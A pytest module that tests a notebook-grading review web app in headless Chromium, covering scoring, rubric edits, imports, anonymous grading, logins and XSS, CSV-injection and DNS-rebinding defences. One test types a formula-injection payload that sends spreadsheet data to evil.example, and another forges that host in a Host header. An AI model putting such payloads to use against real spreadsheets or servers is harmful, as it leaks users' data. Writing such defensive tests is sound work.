"""People grade a class's written answer and bonus in a real browser (headless Chromium driven by Selenium through
Debian's chromium-driver), as graders use it and as an attacker would; grading the automatic part again keeps
every manual score.

One class of five notebooks is graded once for the module (amy and bob: the bonus or not; cat: a written answer
with formulas, a table, an attached plot and outputs of every image type; dan: a hostile answer; eve: the
handout's placeholder) and kept untouched. One review server runs for the module on 127.0.0.1 with a free port,
serving a copy of it that every test gets back as graded (`out`: no score, no setting), so each test saves the
scores it needs itself and passes alone and in any order. One browser for the module, its cookies cleared for
each test; the accounts test starts its own server on its own copy of the class, with a second browser. A
failing test leaves a screenshot of every browser in its tmp_path."""
import csv
import json
import shutil
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request

import pytest

from conftest import FAST, ROOT
from grader.batch import grade_all as batch
from grader.review import publish, store
from manual_notebooks import HOSTILE, notebook, written_notebook

DRIVER = shutil.which("chromedriver")
BROWSER = shutil.which("chromium") or shutil.which("chromium-browser")
NAMES = ["amy", "bob", "cat", "dan", "eve"]


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory, rnn):
    root = tmp_path_factory.mktemp("class")
    (root / "in").mkdir()
    (root / "in" / "amy.ipynb").write_text(notebook())
    (root / "in" / "bob.ipynb").write_text(notebook(bonus=False, claims=""))
    (root / "in" / "cat.ipynb").write_text(written_notebook())
    (root / "in" / "dan.ipynb").write_text(written_notebook(HOSTILE, outputs=False))
    (root / "in" / "eve.ipynb").write_text(notebook(bonus=False).replace(
        "In BPTT, dWaa sums over t the products of da<t>/da<t-1> = diag(1 - a^2) Waa; with tanh saturating these"
        " shrink.", "YOUR ANSWER HERE"))
    batch.grade_all(root / "in", root / "graded", rnn, FAST, batch.Options(workers=2))
    return root


@pytest.fixture(scope="module")
def served(graded_class):
    """The folder the module's server serves: a copy of the graded class that `out` resets for each test."""
    shutil.copytree(graded_class / "graded", graded_class / "out")
    return graded_class / "out"


@pytest.fixture
def out(graded_class, served):
    """The served folder as graded, whatever the tests before saved or set: the scores' database (and with it
    the anonymous setting) gone, every report and gradebook.csv as grade-all wrote them. New files (fresh
    modification times), so the app's cache of reports reads them again."""
    shutil.rmtree(served)
    shutil.copytree(graded_class / "graded", served, copy_function=shutil.copyfile)
    return served


def gradebook_rows(out):
    return {row["student"]: row for row in csv.DictReader((out / "gradebook.csv").open())}


def items_of(out, name):
    return {i["id"]: i for i in json.loads((out / name / "report.json").read_text())["manual"]["items"]}


def test_grading_again_keeps_every_manual_score(graded_class, out, rnn):
    assert gradebook_rows(out)["amy"]["vanishing_gradients"] == "pending"
    store.save(out, "bob", "vanishing_gradients", 3, [0, 2], "clear", "ta1")
    publish.publish(out, class_page=False)
    before = json.loads((out / "bob" / "report.json").read_text())
    batch.grade_all(graded_class / "in", out, rnn, FAST, batch.Options(workers=2, force=True))
    after = json.loads((out / "bob" / "report.json").read_text())
    item = {i["id"]: i for i in after["manual"]["items"]}["vanishing_gradients"]
    assert (item["status"], item["points"], item["rubric_items"], item["grader"]) == ("graded", 3, [0, 2], "ta1")
    assert after["total"] == before["total"] and after["total"]["score"] == after["score"] + 3
    row = gradebook_rows(out)["bob"]
    assert (row["vanishing_gradients"], row["sentiment_bonus"], row["pending"]) == ("3", "pending", "1")
    assert "manual.vanishing_gradients: Written" in (out / "bob" / "results.json").read_text()
    bonus = {i["id"]: i for i in after["manual"]["items"]}["sentiment_bonus"]["answer"]
    assert not bonus["found"] and "no markdown heading holds 'sentiment analysis'" in bonus["message"]
    eve = items_of(out, "eve")["vanishing_gradients"]["answer"]
    assert not eve["found"] and "still hold the handout's placeholder" in eve["message"]


def test_a_batchs_publish_writes_again_only_what_the_saved_scores_change(out, monkeypatch):
    names = publish.students(out)
    settled = {name: publish.read(out, name) for name in names}  # as grade-all keeps what it just wrote
    everyone = publish.publish(out, class_page=False)  # reading every report back, as the review app does
    written = []
    real = publish.write
    monkeypatch.setattr(publish, "write", lambda folder, *args: written.append(folder.name) or real(folder, *args))
    assert publish.publish(out, names, class_page=False, written=settled) == everyone and written == []
    store.save(out, "bob", "vanishing_gradients", 3, [0, 2], "clear", "ta1")  # saved while the batch graded
    documents = publish.publish(out, names, class_page=False, written=settled)
    assert written == ["bob"] and documents == publish.publish(out, class_page=False)
    assert items_of(out, "bob")["vanishing_gradients"]["points"] == 3
    assert gradebook_rows(out)["bob"]["vanishing_gradients"] == "3"
    assert settled["bob"]["manual"]["pending"] == 2  # the batch's own copy is left as it was


def test_the_bonus_cells_were_shown_not_run(out):
    amy = json.loads((out / "amy" / "report.json").read_text())
    # No NameError from model.fit and no missing tensorflow: the bonus cells did not run.
    assert amy["cells"] == [] and amy["score"] - amy["extra_credit"] == amy["max_score"]
    assert any("2 cells were not run" in note for note in amy["notes"])
    executed = json.loads((out / "amy" / "executed.ipynb").read_text())
    held = [c for c in executed["cells"] if c["cell_type"] == "code" and "imdb" in "".join(c["source"])]
    assert held[0]["metadata"]["grader"] == {"status": "not run"} and held[0]["outputs"] == []


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def start(out, port, *options):
    """`python -m grader review OUT` on `port`, up and answering; returns the process."""
    process = subprocess.Popen([sys.executable, "-m", "grader", "review", str(out), "--port", str(port), *options],
                               cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
            return process
        except OSError:
            assert process.poll() is None, process.stdout.read()
            time.sleep(0.1)
    process.kill()
    raise AssertionError(f"the review server did not answer on port {port} within 30 s")


def stop(process):
    process.terminate()
    process.wait(timeout=10)


@pytest.fixture(scope="module")
def server(served):
    port = free_port()
    process = start(served, port, "--grader", "ta2")
    yield f"http://127.0.0.1:{port}"
    stop(process)


@pytest.fixture(scope="module")
def browsers():
    """Makes headless Chromium browsers (each its own profile: its own cookies), all closed with the module."""
    if DRIVER is None or BROWSER is None:
        pytest.skip("no chromium and chromedriver here (`make test` installs both as root)")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service
    made = []

    def new():
        options = webdriver.ChromeOptions()
        options.binary_location = BROWSER
        for flag in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1280,1000"):
            options.add_argument(flag)
        driver = webdriver.Chrome(options=options, service=Service(DRIVER))
        driver.implicitly_wait(5)
        made.append(driver)
        return driver

    new.made = made
    yield new
    for driver in made:
        driver.quit()


@pytest.fixture
def browser(browsers, request, tmp_path):
    driver = browsers.made[0] if browsers.made else browsers()
    driver.delete_all_cookies()
    yield driver
    if getattr(request.node, "rep_call", None) is not None and request.node.rep_call.failed:
        for number, each in enumerate(browsers.made):  # what each browser showed when the test failed
            each.save_screenshot(str(tmp_path / f"browser-{number}.png"))
    for each in browsers.made:  # no page left loading from the server while the next test resets its folder
        each.get("about:blank")


def shows(browser, element_id, expected):
    """Wait until the element's text holds `expected`: after a click that loads a page, the old page's element
    may still be the one found, and go stale under the test's feet."""
    from selenium.common.exceptions import NoSuchElementException, StaleElementReferenceException, WebDriverException
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    def text(driver):
        try:
            return expected in driver.find_element(By.ID, element_id).text
        except WebDriverException as exc:  # Chromium's word for a stale element found as the next page loads
            if "does not belong to the document" in str(exc):
                return False
            raise
    WebDriverWait(browser, 30, ignored_exceptions=(StaleElementReferenceException, NoSuchElementException)).until(
        text, f"#{element_id} never showed {expected!r}")
    return browser.find_element(By.ID, element_id).text


def request(url, data=None, **headers):
    """(status, body) of a request made outside any browser, with the headers given (a forged Host)."""
    made = urllib.request.Request(url, data=data, headers=headers)
    try:
        with urllib.request.urlopen(made, timeout=10) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def test_graders_grade_in_the_browser_and_the_gradebook_follows(out, server, browser, tmp_path):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    store.save(out, "bob", "vanishing_gradients", 3, [0, 2], "clear", "ta1")  # graded earlier, by another TA
    find = browser.find_element
    browser.get(server + "/")
    assert find(By.ID, "progress-sentiment_bonus").text == "0 / 5"
    find(By.ID, "open-sentiment_bonus").click()
    assert find(By.ID, "student").text == "amy" and find(By.ID, "position").text == "1 / 5"
    assert "val_accuracy: 0.8604" in find(By.ID, "answer").text and find(By.CSS_SELECTOR, "#answer img")
    assert "0.86" in find(By.ID, "numbers").text
    assert not browser.find_elements(By.CSS_SELECTOR, "input[name=grader]")  # the name is the server's, not typed
    body = find(By.TAG_NAME, "body")
    body.send_keys("1")  # keyboard: rubric items 1, 2 and 3, then Enter saves and goes to the next student
    body.send_keys("2")
    body.send_keys("3")
    assert find(By.ID, "points").text == "8"
    body.send_keys(Keys.ENTER)
    assert shows(browser, "student", "bob") == "bob" and find(By.ID, "done").text == "1 / 5"
    assert find(By.ID, "missing").text.startswith("No answer: no answer found: no cell is tagged 'bonus'")
    find(By.ID, "rubric-4").click()  # a penalty alone: never below zero
    find(By.ID, "comment").send_keys("no bonus cells in the notebook")
    find(By.ID, "save-stay").click()
    assert shows(browser, "graded-by", "graded by ta2") and find(By.ID, "points").text == "0"
    browser.refresh()
    assert find(By.CSS_SELECTOR, "#rubric-4 input").is_selected()
    assert find(By.ID, "comment").get_attribute("value") == "no bonus cells in the notebook"
    find(By.ID, "previous").click()
    shows(browser, "student", "amy")
    assert [box.is_selected() for box in browser.find_elements(By.CSS_SELECTOR, "input[name=rubric]")] == \
        [True, True, True, False, False]
    rows = gradebook_rows(out)
    assert (rows["amy"]["sentiment_bonus"], rows["bob"]["sentiment_bonus"]) == ("8", "0")
    assert rows["amy"]["total"] == str(int(float(rows["amy"]["score"])) + 8)

    # A TA who graded the written item in a spreadsheet: imported through the page.
    sheet = tmp_path / "written.csv"
    sheet.write_text("student,item,points,rubric_items,comment,grader\namy,vanishing_gradients,4,0;1;2,,ta3\n")
    browser.get(server + "/")
    find(By.CSS_SELECTOR, "#import input[type=file]").send_keys(str(sheet))
    find(By.CSS_SELECTOR, "#import button").click()
    assert shows(browser, "message", "imported") == "imported 1 scores"
    assert find(By.ID, "progress-vanishing_gradients").text == "2 / 5"
    rows = gradebook_rows(out)
    assert rows["amy"]["vanishing_gradients"] == "4" and rows["amy"]["pending"] == "0"
    graded = items_of(out, "amy")
    assert graded["vanishing_gradients"]["grader"] == "ta3" and graded["sentiment_bonus"]["grader"] == "ta2"
    # A row naming rubric items the item doesn't have imports nothing, and the page says which line.
    sheet.write_text("student,item,points,rubric_items\ncat,vanishing_gradients,1,2\nbob,sentiment_bonus,3,9;17\n")
    find(By.CSS_SELECTOR, "#import input[type=file]").send_keys(str(sheet))
    find(By.CSS_SELECTOR, "#import button").click()
    assert "line 3: 'sentiment_bonus' has no rubric item '9'" in shows(browser, "message", "nothing imported")
    assert "vanishing_gradients" not in store.load(out).get("cat", {})
    find(By.ID, "publish").click()
    shows(browser, "message", "index.html written")
    assert 'id="manual"' in (out / "index.html").read_text()


def test_a_refused_save_keeps_the_graders_picks_beside_the_other_graders_score(out, server, browser):
    from selenium.webdriver.common.by import By
    store.save(out, "bob", "vanishing_gradients", 3, [0, 2], "clear", "ta1")  # bob's saved picks: 1 and 3
    browser.get(server + "/grade/vanishing_gradients/bob")
    saved = store.get(out, "bob", "vanishing_gradients")
    store.save(out, "bob", "vanishing_gradients", 1, [2], "ta9's view", "ta9", saved["version"])
    browser.find_element(By.ID, "rubric-0").click()  # this page still has the version before ta9's save
    browser.find_element(By.ID, "rubric-2").click()  # (bob's saved picks were 1 and 3: now 3 alone)
    browser.find_element(By.ID, "comment").clear()
    browser.find_element(By.ID, "comment").send_keys("my own comment")
    browser.find_element(By.ID, "save-stay").click()
    shows(browser, "message", "not saved: ta9 saved this score")
    assert store.get(out, "bob", "vanishing_gradients")["grader"] == "ta9"
    assert "ta9's view" in browser.find_element(By.ID, "theirs").text
    assert [b.is_selected() for b in browser.find_elements(By.CSS_SELECTOR, "input[name=rubric]")] == \
        [False, False, False]  # mine: 1 unpicked, 3 unpicked
    assert browser.find_element(By.ID, "comment").get_attribute("value") == "my own comment"
    browser.find_element(By.ID, "rubric-1").click()
    browser.find_element(By.ID, "save-stay").click()  # saved over theirs, having seen it
    shows(browser, "graded-by", "graded by ta2")
    assert store.get(out, "bob", "vanishing_gradients")["comment"] == "my own comment"


def test_a_written_answer_shows_its_formulas_table_and_images(out, server, browser, tmp_path):
    from selenium.webdriver.common.by import By
    browser.get(server + "/grade/vanishing_gradients/cat")
    answer = browser.find_element(By.ID, "answer")
    assert "$$" not in answer.text and "\\frac" not in answer.text and "\\begin" not in answer.text
    drawn = browser.execute_script("""
        const block = [...document.querySelectorAll('#answer math[display=block]')];
        const images = [...document.querySelectorAll('#answer img')];
        return {blocks: block.length, inline: document.querySelectorAll('#answer math[display=inline]').length,
                tallest: Math.max(...block.map(m => m.getBoundingClientRect().height)),
                fractions: document.querySelectorAll('#answer mfrac').length,
                tables: document.querySelectorAll('#answer mtable').length,
                rows: document.querySelectorAll('#answer .markdown table tr').length,
                heading: document.querySelector('#answer .markdown h3').textContent,
                images: images.map(i => [i.src.slice(0, 20), i.naturalWidth]),
                highlighted: document.querySelectorAll('#answer .highlight span').length,
                html: document.querySelectorAll('#answer .output-html table td').length,
                unparsed: document.querySelectorAll('#answer .tex').length}""")
    # Display formulas drawn as MathML: a fraction over a sum stands taller than a line of text.
    assert drawn["blocks"] >= 3 and drawn["inline"] >= 8 and drawn["tallest"] > 40 and drawn["fractions"] >= 5
    assert drawn["tables"] >= 2 and drawn["rows"] == 3 and drawn["heading"] == "Why do gradients vanish?"
    assert drawn["unparsed"] == 0 and drawn["highlighted"] > 5 and drawn["html"] == 2
    kinds = sorted(src.split(";")[0] for src, width in drawn["images"] if width > 0)
    assert kinds == ["data:image/gif", "data:image/jpeg", "data:image/png", "data:image/png",
                     "data:image/svg+xml"], drawn["images"]  # the attached plot and four outputs, all drawn
    browser.save_screenshot(str(tmp_path / "written-answer.png"))


def test_a_hostile_answer_runs_nothing_and_loads_nothing(out, server, browser):
    from selenium.webdriver.common.by import By
    browser.get(server + "/grade/vanishing_gradients/dan")
    assert "The answer: gradients vanish." in browser.find_element(By.ID, "answer").text
    for selector in ("script", "iframe", "style", "form", "svg", "[onerror]", "[style]", "img[src='x']"):
        assert browser.find_elements(By.CSS_SELECTOR, f"#answer {selector}") == [], selector
    links = browser.find_elements(By.ID, "evil-link") + browser.find_elements(By.CSS_SELECTOR, "#answer a")
    for link in links:
        assert not (link.get_attribute("href") or "").startswith("javascript"), link.get_attribute("href")
        link.click()
    loaded = browser.execute_script("return [window.pwned, performance.getEntriesByType('resource').map(e => e.name)]")
    assert loaded[0] is None
    assert all(url.startswith(server) for url in loaded[1]), loaded[1]  # the app's own CSS and script only
    assert browser.execute_script("return getComputedStyle(document.body).backgroundImage") == "none"


def test_a_rubric_edit_applies_to_every_answer_graded_with_it(out, server, browser):
    from selenium.webdriver.common.by import By
    store.save(out, "amy", "vanishing_gradients", 4, [0, 1, 2], "", "ta3")
    store.save(out, "bob", "vanishing_gradients", 1, [1], "", "ta9")
    publish.publish(out, class_page=False)
    before = {n: (items_of(out, n)["vanishing_gradients"].get("points"), store.load(out).get(n, {}).get(
        "vanishing_gradients", {}).get("rubric_items")) for n in NAMES}
    assert before["amy"] == (4, [0, 1, 2]) and before["bob"] == (1, [1])  # item 1 (2 points) picked by amy only
    browser.get(server + "/item/vanishing_gradients?rubric=0")
    assert browser.find_element(By.ID, "shown").text == "1 of 5 shown"  # the filter: amy alone picked item 1
    form = browser.find_element(By.ID, "edit-0")
    form.find_element(By.NAME, "points").clear()
    form.find_element(By.NAME, "points").send_keys("1.5")
    form.find_element(By.NAME, "text").clear()
    form.find_element(By.NAME, "text").send_keys("BPTT: dW sums the terms of every step (the product of Jacobians)")
    form.find_element(By.TAG_NAME, "button").click()
    assert "1 scores changed" in shows(browser, "message", "rubric item 1 saved")
    change = browser.find_element(By.ID, "changes").text
    assert "ta2" in change and "+2 BPTT: dW is a sum" in change and "+1.5 BPTT: dW sums the terms" in change
    amy = items_of(out, "amy")["vanishing_gradients"]
    assert amy["points"] == 3.5 and amy["rubric"][0]["points"] == 1.5 and gradebook_rows(out)["amy"][
        "vanishing_gradients"] == "3.5"
    assert "+1.5 BPTT: dW sums the terms" in (out / "amy" / "report.md").read_text()
    assert items_of(out, "bob")["vanishing_gradients"]["points"] == 1  # bob didn't pick it
    browser.get(server + "/item/vanishing_gradients?status=ungraded")
    assert browser.find_element(By.ID, "shown").text == "3 of 5 shown"
    browser.get(server + "/grade/vanishing_gradients/amy")
    assert browser.find_element(By.ID, "rubric-0").text.startswith("1 +1.5 BPTT: dW sums")
    # A per-answer adjustment needs its reason, and the points follow the picks and the adjustment.
    browser.find_element(By.ID, "adjustment").send_keys("-0.5")
    browser.find_element(By.ID, "save-stay").click()
    shows(browser, "message", "not saved: an adjustment")
    browser.find_element(By.ID, "reason").send_keys("no remedy named")
    browser.find_element(By.ID, "save-stay").click()
    shows(browser, "graded-by", "graded by ta2")
    amy = items_of(out, "amy")["vanishing_gradients"]
    assert (amy["points"], amy["adjustment"], amy["adjustment_reason"]) == (3.0, -0.5, "no remedy named")


def test_the_scores_table_answers_200_and_keeps_the_filter_it_shows(out, server):
    """The scores table filtered by status is a page like any other: HTTP 200 (a client stricter than Chromium,
    curl or a proxy, refused the status line the filter's value once took the place of), and its filter shows the
    status it filtered by."""
    for shown in ("all", "graded", "ungraded"):
        status, text = request(server + f"/item/vanishing_gradients?status={shown}")
        assert status == 200, (shown, status)
        assert f'<option value="{shown}" selected>' in text and text.count(" selected>") == 1, shown


def test_next_ungraded_and_unsaved_picks_warn_before_leaving(out, server, browser):
    from selenium.webdriver.common.by import By
    store.save(out, "amy", "vanishing_gradients", 4, [0, 1, 2], "", "ta3")
    store.save(out, "bob", "vanishing_gradients", 1, [1], "my own comment", "ta2")
    browser.get(server + "/")
    browser.find_element(By.ID, "ungraded-vanishing_gradients").click()
    assert shows(browser, "student", "cat") == "cat"  # amy and bob are graded
    body = browser.find_element(By.TAG_NAME, "body")
    body.send_keys("2")
    body.send_keys("j")
    assert browser.find_element(By.ID, "unsaved").is_displayed()
    assert browser.find_element(By.ID, "student").text == "cat"  # still here, the pick still made
    assert browser.find_element(By.CSS_SELECTOR, "#rubric-1 input").is_selected()
    body.send_keys("j")  # a second press leaves without them
    assert shows(browser, "student", "dan") == "dan"
    assert "vanishing_gradients" not in store.load(out).get("cat", {})
    browser.find_element(By.TAG_NAME, "body").send_keys("k")  # nothing picked: no warning
    assert shows(browser, "student", "cat") == "cat"
    # The comment saved on bob is offered for reuse.
    browser.find_element(By.CSS_SELECTOR, "button.reuse").click()
    assert browser.find_element(By.ID, "comment").get_attribute("value") == "my own comment"


def test_the_export_neutralizes_formulas_and_a_rebound_host_is_refused(out, server, browser):
    from selenium.webdriver.common.by import By
    browser.get(server + "/grade/vanishing_gradients/eve")
    assert browser.find_element(By.ID, "missing").text.startswith("No answer: nothing written: the cells under the heading")
    browser.find_element(By.ID, "comment").send_keys('=HYPERLINK("http://evil.example/?"&A1,"see")')
    browser.find_element(By.ID, "save-stay").click()
    shows(browser, "graded-by", "graded by ta2")
    status, text = request(server + "/export.csv")
    row = next(csv.DictReader(text.splitlines()[:1] + [line for line in text.splitlines() if line.startswith("eve,")]))
    assert status == 200 and row["comment"] == '\'=HYPERLINK("http://evil.example/?"&A1,"see")'
    # DNS rebinding: a page of evil.example whose name now points at 127.0.0.1 reads and posts as same-origin.
    port = server.rsplit(":", 1)[1]
    assert request(server + "/export.csv", Host=f"evil.example:{port}")[0] == 400
    posted = request(server + "/publish", data=b"", Host=f"evil.example:{port}", Origin=f"http://evil.example:{port}")
    assert posted[0] == 400
    assert request(server + "/publish", data=b"", Origin=server)[0] == 400  # no form token
    assert request(server + "/export.csv", Host=f"localhost:{port}")[0] == 200


def test_anonymous_grading_hides_names_in_a_stable_order_per_item(out, server, browser):
    from selenium.webdriver.common.by import By
    browser.get(server + "/")
    browser.find_element(By.CSS_SELECTOR, "#anonymous input[type=checkbox]").click()
    browser.find_element(By.ID, "set-anonymous").click()
    shows(browser, "message", "names hidden")
    try:
        orders = {}
        for item in ("vanishing_gradients", "sentiment_bonus"):
            browser.get(server + f"/item/{item}")
            links = browser.find_elements(By.CSS_SELECTOR, "#scores a")
            assert [a.text for a in links] == [f"submission {n}" for n in range(1, 6)]
            orders[item] = [a.get_attribute("href").rsplit("/", 1)[1] for a in links]
            page = browser.page_source
            assert not any(f">{name}<" in page or f"/{name}\"" in page for name in NAMES), item
        assert sorted(orders["vanishing_gradients"]) == sorted(orders["sentiment_bonus"])  # the same students
        browser.get(server + "/grade/vanishing_gradients/" + orders["vanishing_gradients"][0])
        assert browser.find_element(By.ID, "student").text == "submission 1"
        assert browser.current_url.rsplit("/", 1)[1] not in NAMES
        before = store.load(out)
        browser.find_element(By.ID, "rubric-1").click()
        browser.find_element(By.ID, "save").click()  # save and next: the next of this item's order
        assert shows(browser, "student", "submission 2") == "submission 2"
        after = store.load(out)
        changed = [n for n in NAMES if after.get(n, {}).get("vanishing_gradients") !=
                   before.get(n, {}).get("vanishing_gradients")]
        assert len(changed) == 1 and after[changed[0]]["vanishing_gradients"]["grader"] == "ta2"
        assert browser.get(server + "/grade/vanishing_gradients/amy") is None and "Not Found" in browser.page_source
        browser.get(server + "/item/vanishing_gradients")
        again = [a.get_attribute("href").rsplit("/", 1)[1] for a in browser.find_elements(By.CSS_SELECTOR, "#scores a")]
        assert again == orders["vanishing_gradients"]  # stable across pages (and restarts: the seed is in the database)
    finally:
        browser.get(server + "/")
        browser.find_element(By.CSS_SELECTOR, "#anonymous input[type=checkbox]").click()
        browser.find_element(By.ID, "set-anonymous").click()
        shows(browser, "message", "names shown")
    browser.get(server + "/item/vanishing_gradients")
    assert [a.text for a in browser.find_elements(By.CSS_SELECTOR, "#scores a")] == NAMES  # shown after
    assert browser.find_element(By.ID, "student") if browser.get(server + "/grade/vanishing_gradients/amy") is None \
        else False


def log_in(driver, url, name, password):
    from selenium.webdriver.common.by import By
    driver.get(url + "/")
    driver.find_element(By.ID, "name").send_keys(name)
    driver.find_element(By.ID, "password").send_keys(password)
    driver.find_element(By.ID, "log-in").click()
    assert shows(driver, "grader", name) == name


def test_two_graders_log_in_from_two_browsers(graded_class, browsers, browser, tmp_path):
    from selenium.webdriver.common.by import By
    out = tmp_path / "out"
    shutil.copytree(graded_class / "graded", out)
    port = free_port()
    refused = subprocess.run([sys.executable, "-m", "grader", "review", str(out), "--host", "0.0.0.0", "--port",
                              str(port)], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert refused.returncode == 2 and "needs graders' accounts" in refused.stderr
    for name, password in (("ta1", "correct horse 1"), ("ta2", "battery staple 2")):
        added = subprocess.run([sys.executable, "-m", "grader", "review", str(out), "--add-grader", name],
                               input=password + "\n", cwd=ROOT, capture_output=True, text=True, timeout=60)
        assert added.returncode == 0, added.stderr
    assert "correct horse" not in (out / store.NAME).read_bytes().decode("latin-1")  # hashed
    process = start(out, port)
    try:
        url = f"http://127.0.0.1:{port}"
        browser.get(url + "/grade/vanishing_gradients/cat")
        assert "/login" in browser.current_url  # no account, no page
        browser.find_element(By.ID, "name").send_keys("ta1")
        browser.find_element(By.ID, "password").send_keys("wrong password")
        browser.find_element(By.ID, "log-in").click()
        shows(browser, "message", "wrong name or password")
        other = browsers.made[1] if len(browsers.made) > 1 else browsers()
        other.delete_all_cookies()
        log_in(browser, url, "ta1", "correct horse 1")
        log_in(other, url, "ta2", "battery staple 2")
        for driver in (browser, other):
            driver.get(url + "/grade/vanishing_gradients/cat")
        browser.find_element(By.ID, "rubric-0").click()
        browser.find_element(By.ID, "save-stay").click()
        shows(browser, "graded-by", "graded by ta1")
        other.find_element(By.ID, "rubric-2").click()
        other.find_element(By.ID, "save-stay").click()
        assert "not saved: ta1 saved this score" in shows(other, "message", "not saved")
        assert other.find_element(By.CSS_SELECTOR, "#rubric-2 input").is_selected()
        other.find_element(By.ID, "save-stay").click()
        shows(other, "graded-by", "graded by ta2")
        assert items_of(out, "cat")["vanishing_gradients"]["grader"] == "ta2"
        browser.find_element(By.ID, "logout").click()
        browser.get(url + "/export.csv")
        assert "/login" in browser.current_url
        held = socket.create_connection(("127.0.0.1", port))  # a browser's kept-alive connection: stopping the
        held.sendall(f"GET /login HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())  # server closes it
        assert held.recv(100).startswith(b"HTTP/1.1 200")  # first, which leaves its port in TIME_WAIT
    finally:
        stop(process)
    # Stopped and started again on the same port at once (a port in TIME_WAIT is reused).
    again = start(out, port)
    try:
        assert request(f"http://127.0.0.1:{port}/login")[0] == 200
    finally:
        stop(again)
        held.close()

